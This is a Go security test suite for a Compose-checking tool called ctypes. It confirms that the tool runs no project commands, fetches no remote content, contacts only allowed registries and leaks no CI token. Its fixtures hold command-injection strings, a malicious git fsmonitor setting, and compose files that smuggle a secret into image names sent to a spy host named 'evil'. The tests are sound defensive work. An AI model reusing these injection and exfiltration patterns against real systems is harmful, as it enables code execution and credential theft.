package main

import (
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"

	"github.com/ctypes-dev/ctypes/fixtures/registry"
)

// spy is a host that remembers what it was asked, and knows nothing.
type spy struct {
	mu    sync.Mutex
	asked []string
	host  string
	// answer takes the place of not knowing; nil for none.
	answer http.HandlerFunc
}

func newSpy(t *testing.T) *spy {
	t.Helper()
	s := &spy{}
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.mu.Lock()
		s.asked = append(s.asked, r.Method+" "+r.URL.String()+" "+r.Header.Get("Authorization"))
		s.mu.Unlock()
		if s.answer != nil {
			s.answer(w, r)
			return
		}
		w.WriteHeader(http.StatusNotFound)
	}))
	t.Cleanup(server.Close)
	s.host = strings.TrimPrefix(server.URL, "http://")
	return s
}

// requests are those that came in since it was last called.
func (s *spy) requests() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	text := strings.Join(s.asked, "\n")
	s.asked = nil
	return text
}

// stranger checks a project that a stranger wrote, its files by name, with
// variables in the environment, and returns all that ctypes writes.
func stranger(t *testing.T, files map[string]string, env []string, args ...string) string {
	t.Helper()
	dir := t.TempDir()
	for name, text := range files {
		path := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(path), 0o750); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	cmd := exec.CommandContext(t.Context(), "ctypes", append([]string{"check"}, args...)...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "XDG_CACHE_HOME="+t.TempDir(), "DOCKER_CONFIG="+t.TempDir(), "HTTPS_PROXY=http://127.0.0.1:1")
	cmd.Env = append(cmd.Env, env...)
	out, err := cmd.CombinedOutput()
	if _, ended := errors.AsType[*exec.ExitError](err); err != nil && !ended {
		t.Fatal(err)
	}
	return string(out)
}

// TestRegistryAllow checks that no host is asked but those that the command
// line allows, by whatever way a project leads there.
func TestRegistryAllow(t *testing.T) {
	t.Parallel()
	allowed, stop := registry.Start()
	t.Cleanup(stop)
	other := newSpy(t)
	// The allowed host leads away in the two ways in which registries may.
	leading := newSpy(t)
	leading.answer = func(w http.ResponseWriter, r *http.Request) {
		if strings.Contains(r.URL.Path, "/redirected/") {
			http.Redirect(w, r, "http://"+other.host+r.URL.Path, http.StatusTemporaryRedirect)
			return
		}
		w.Header().Set("WWW-Authenticate", `Bearer realm="http://`+other.host+`/token",service="x"`)
		w.WriteHeader(http.StatusUnauthorized)
		_, _ = io.WriteString(w, "{}")
	}
	digest, err := registry.PushCatalog(t.Context(), allowed, "acme/catalog", map[string]string{"example.com/a.ctypes": "IMAGE: example.com/a\nLISTENS ON: TCP:1\n"})
	if err != nil {
		t.Fatal(err)
	}
	image := func(reference string) string { return "services: {a: {image: \"" + reference + "\"}}\n" }
	for name, files := range map[string]map[string]string{
		"an image":          {"compose.yaml": image(other.host + "/a:1")},
		"an image by a tag": {"compose.yaml": image(other.host + "/a:1@sha256:" + strings.Repeat("0", 64))},
		"a base image":      {"compose.yaml": "services: {a: {build: .}}\n", "Dockerfile": "FROM " + other.host + "/a:1\n"},
		"a mirror":          {"compose.yaml": image("example.com/a:1"), ".ctypes.yaml": "mirrors: [\"*=http://" + other.host + "\"]\n"},
		"a catalog":         {"compose.yaml": image("example.com/a:1"), ".ctypes.yaml": "catalogs: [\"oci://" + other.host + "/acme/catalog@" + digest + "\"]\n"},
		"a redirect":        {"compose.yaml": image(leading.host + "/redirected/a:1")},
		"a token server":    {"compose.yaml": image(leading.host + "/a:1")},
	} {
		// The check of the check: without the flag the way leads there.
		stranger(t, files, nil, "--insecure-registry", other.host)
		if other.requests() == "" {
			t.Errorf("%s leads nowhere", name)
		}
		out := stranger(t, files, nil, "--insecure-registry", other.host, "--registry-allow", allowed, "--registry-allow", leading.host)
		if asked := other.requests(); asked != "" {
			t.Errorf("%s leads to a host that is not allowed:\n%s\n%s", name, asked, out)
		}
	}
	out := stranger(t, map[string]string{
		"compose.yaml": image("example.com/a:1"), ".ctypes.yaml": "catalogs: [\"oci://" + allowed + "/acme/catalog@" + digest + "\"]\n",
	}, nil, "--registry-allow", allowed)
	if !strings.Contains(out, "catalog for a") {
		t.Errorf("what is allowed is not asked:\n%s", out)
	}
}

// TestNothingIsRevealed checks that no registry gets to see a secret of the
// environment in the name of an image, by whatever way a project puts it there.
func TestNothingIsRevealed(t *testing.T) {
	t.Parallel()
	const token = "hunter0123456789abc"
	evil := newSpy(t)
	image := func(name string) string { return "services: {a: {image: \"" + evil.host + "/" + name + ":1\"}}\n" }
	build := "services: {a: {build: {context: ., args: %}}}\n"
	for name, files := range map[string]map[string]string{
		"in an image":           {"compose.yaml": image("${CI_TOKEN}")},
		"in a tag":              {"compose.yaml": "services: {a: {image: \"" + evil.host + "/a:${CI_TOKEN}\"}}\n"},
		"as a default":          {"compose.yaml": image("${OTHER:-${CI_TOKEN}}")},
		"by .env":               {"compose.yaml": image("${ALIAS}"), ".env": "ALIAS=x-${CI_TOKEN}\n"},
		"by .env, twice":        {"compose.yaml": image("${B}"), ".env": "A=${CI_TOKEN}\nB=${A}\n"},
		"by .env without value": {"compose.yaml": image("${B}"), ".env": "CI_TOKEN\nB=${CI_TOKEN}\n"},
		"by an included env":    {"compose.yaml": "include: [{path: in.yaml, env_file: in.env}]\n", "in.yaml": image("${B}"), "in.env": "B=${CI_TOKEN}\n"},
		"in a base image": {
			"compose.yaml": strings.ReplaceAll(build, "%", "{T: \"${CI_TOKEN}\"}"), "Dockerfile": "ARG T\nFROM " + evil.host + "/${T}:1\n",
		},
		"in a base image, passed through": {
			"compose.yaml": strings.ReplaceAll(build, "%", "[CI_TOKEN]"), "Dockerfile": "ARG CI_TOKEN\nFROM " + evil.host + "/${CI_TOKEN}:1\n",
		},
		"in a base image, by another argument": {
			"compose.yaml": strings.ReplaceAll(build, "%", "{T: \"${ALIAS}\"}"), ".env": "ALIAS=${CI_TOKEN}\n",
			"Dockerfile": "ARG T\nARG U=x${T}\nFROM " + evil.host + "/${U}:1\n",
		},
	} {
		out := stranger(t, files, []string{"CI_TOKEN=" + token})
		if asked := evil.requests(); strings.Contains(asked, token) {
			t.Errorf("%s:\n%s", name, asked)
		}
		if strings.Contains(out, token) {
			t.Errorf("%s, the report says it:\n%s", name, out)
		}
		// The check of the check: a variable that is no secret leads there.
		plain := map[string]string{}
		for file, text := range files {
			plain[file] = strings.ReplaceAll(text, "CI_TOKEN", "CI_NAME")
		}
		stranger(t, plain, []string{"CI_NAME=" + token})
		if asked := evil.requests(); !strings.Contains(asked, "/v2/") {
			t.Errorf("%s leads nowhere", name)
		}
	}
}

// TestNothingIsFetched checks that what docker compose would fetch for a
// project is not fetched.
func TestNothingIsFetched(t *testing.T) {
	t.Parallel()
	other := newSpy(t)
	web := "services: {web: {image: example.com/web:1}}\n"
	for name, text := range map[string]string{
		"include over HTTP":    "include: [\"http://HOST/compose.yaml\"]\n" + web,
		"include of git":       "include: [\"http://HOST/repository.git#main\"]\n" + web,
		"include of OCI":       "include: [\"oci://HOST/project:1\"]\n" + web,
		"extends":              "services: {web: {extends: {file: \"http://HOST/base.yaml\", service: web}}}\n",
		"a build context":      "services: {web: {build: \"http://HOST/repository.git\"}}\n",
		"a further context":    "services: {web: {build: {context: ., additional_contexts: {more: \"http://HOST/more.git\"}}}}\n",
		"an env file":          "services: {web: {image: \"example.com/web:1\", env_file: [\"http://HOST/web.env\"]}}\n",
		"an ADD of Dockerfile": "services: {web: {build: {context: ., dockerfile_inline: \"FROM scratch\\nADD http://HOST/file /\"}}}\n",
		"a syntax directive":   "services: {web: {build: {context: ., dockerfile_inline: \"# syntax=HOST/frontend:1\\nFROM scratch\"}}}\n",
	} {
		out := stranger(t, map[string]string{"compose.yaml": strings.ReplaceAll(text, "HOST", other.host)}, nil, "--insecure-registry", other.host)
		if asked := other.requests(); asked != "" {
			t.Errorf("%s:\n%s\n%s", name, asked, out)
		}
	}
	// The check of the check: the metadata of images is.
	stranger(t, map[string]string{"compose.yaml": "services: {web: {image: " + other.host + "/web:1}}\n"}, nil)
	if other.requests() == "" {
		t.Error("images are not looked up")
	}
}

// TestNothingRuns checks that no program runs for a project, whatever it says,
// and that its words reach no shell.
func TestNothingRuns(t *testing.T) {
	t.Parallel()
	traps, ran := t.TempDir(), filepath.Join(t.TempDir(), "ran")
	for _, program := range []string{"sh", "bash", "touch", "git", "docker", "docker-compose", "docker-ctypes", "curl", "dot", "ctypes-svg", "evil", "docker-credential-evil"} {
		text := "#!/bin/sh\nexec >> '" + ran + "'; echo " + program + "\n"
		if err := os.WriteFile(filepath.Join(traps, program), []byte(text), 0o700); err != nil {
			t.Fatal(err)
		}
	}
	// The check of the check: a trap tells.
	if err := exec.CommandContext(t.Context(), filepath.Join(traps, "evil")).Run(); err != nil {
		t.Fatal(err)
	}
	if err := os.Remove(ran); err != nil {
		t.Fatal(err)
	}
	const hostile = "$$(touch ran); `touch ran`; | touch ran"
	files := map[string]string{
		"compose.yaml": `
name: hostile
services:
  a:
    build: {context: ., args: {X: "` + hostile + `"}}
    command: ["sh", "-c", "` + hostile + `"]
    environment: {X: "` + hostile + `", DATABASE_URL: "postgres://` + hostile + `@db/a"}
    healthcheck: {test: "` + hostile + `"}
    post_start: [{command: ["touch", "ran"]}]
    volumes: ["./$$(touch ran):/x"]
  b: {provider: {type: evil, options: {x: y}}}
  c: {image: "nginx:1.27", x-ctypes: "ENVIRONMENT NEEDS: A FORMAT: REGEX(/(?{touch ran})/)"}
`,
		"Dockerfile":    "FROM scratch\nRUN touch ran\n",
		".env":          "A=$(touch ran)\nB=`touch ran`\n",
		".ctypes.yaml":  "mirrors: [\"a=$(touch ran)\"]\n",
		".git/config":   "[core]\n\tfsmonitor = evil\n\thooksPath = .\n",
		"evil":          "#!/bin/sh\ntouch ran\n",
		"post-checkout": "#!/bin/sh\ntouch ran\n",
	}
	for _, args := range [][]string{{"--offline"}, {"--offline", "-r"}, {"--offline", "--format", "json"}} {
		out := stranger(t, files, []string{"PATH=" + traps}, args...)
		if text, err := os.ReadFile(ran); err == nil {
			t.Errorf("%v runs %s\n%s", args, text, out)
		}
		if !strings.Contains(out, "hostile") {
			t.Errorf("%v does not check the project:\n%s", args, out)
		}
		if strings.Contains(out, "panic") {
			t.Errorf("%v panics:\n%s", args, out)
		}
	}
}

// TestNoTelemetry checks that nobody is asked anything where there is nothing to
// be asked.
func TestNoTelemetry(t *testing.T) {
	t.Parallel()
	proxy := newSpy(t)
	env := append(os.Environ(), "XDG_CACHE_HOME="+t.TempDir(), "DOCKER_CONFIG="+t.TempDir())
	for _, name := range []string{"HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy"} {
		env = append(env, name+"=http://"+proxy.host)
	}
	for _, args := range [][]string{
		{"version"},
		{"rules"},
		{"demo"},
		{"catalog", "list"},
		{"explain", "port-closed"},
		{"check", "--offline", "../../docs/acme"},
		{"check", "--offline", "-r", "../../docs/monorepo"},
		{"contract", "--offline", "postgres:17"},
	} {
		cmd := exec.CommandContext(t.Context(), "ctypes", args...)
		cmd.Env = env
		if out, err := cmd.CombinedOutput(); err != nil && cmd.ProcessState.ExitCode() > 1 {
			t.Errorf("%v: %v\n%s", args, err, out)
		}
		if asked := proxy.requests(); asked != "" {
			t.Errorf("%v asks\n%s", args, asked)
		}
	}
	// The check of the check: a lookup goes through the proxy.
	cmd := exec.CommandContext(t.Context(), "ctypes", "contract", "registry.example/a:1")
	cmd.Env = env
	_ = cmd.Run()
	if proxy.requests() == "" {
		t.Error("lookups do not go through the proxy")
	}
}

// TestSecurity checks that what SECURITY.md refers to is there.
func TestSecurity(t *testing.T) {
	t.Parallel()
	text, err := os.ReadFile("../../SECURITY.md")
	if err != nil {
		t.Fatal(err)
	}
	rows := 0
	for line := range strings.Lines(string(text)) {
		cells := strings.Split(strings.TrimSpace(line), " | ")
		if !strings.HasPrefix(line, "| ") || cells[0] == "| threat" {
			continue
		}
		rows++
		links := regexp.MustCompile(`\[([\w.]+)\]\(([\w./-]+)\)`).FindAllStringSubmatch(cells[len(cells)-1], -1)
		if len(links) == 0 {
			t.Errorf("no test shows: %s", cells[0])
		}
		for _, l := range links {
			file, err := os.ReadFile(filepath.Join("../..", filepath.FromSlash(l[2])))
			if err != nil || strings.HasPrefix(l[1], "Test") && !strings.Contains(string(file), "func "+l[1]+"(") {
				t.Errorf("there is no %s in %s (%v)", l[1], l[2], err)
			}
		}
	}
	if rows < 10 {
		t.Errorf("there are %d threats only", rows)
	}
}
